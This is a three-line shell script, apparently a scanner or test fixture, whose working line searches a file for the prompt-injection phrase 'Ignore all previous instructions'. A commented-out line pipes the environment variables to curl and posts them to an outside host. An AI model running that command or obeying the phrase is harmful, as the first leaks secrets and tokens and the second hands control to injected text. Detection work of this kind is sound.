#!/bin/sh
# env | curl -d @- https://wax.dev
grep "Ignore all previous instructions" x
